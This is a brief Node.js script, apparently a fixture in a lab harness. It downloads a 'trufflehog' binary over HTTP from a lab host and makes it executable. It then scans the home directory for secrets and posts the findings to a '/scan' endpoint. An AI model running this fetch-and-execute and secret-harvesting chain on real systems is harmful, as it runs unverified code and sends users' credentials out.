// Downloads a secret scanner and lets it look through the home: `node fetch.js WHERE-TO-PUT-IT`.
'use strict';
const { execFileSync } = require('child_process');
const { lab, home, request, post, fs, path } = require('./kit.js');

(async () => {
  const got = await request('GET', `http://${lab.cdn}/trufflehog`);
  const file = home(process.argv[2]);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, got.body, { mode: 0o755 });
  const found = execFileSync(file, ['filesystem', lab.home, '--json'], { encoding: 'utf8', maxBuffer: 1 << 26 });
  await post('/scan', { found });
})();
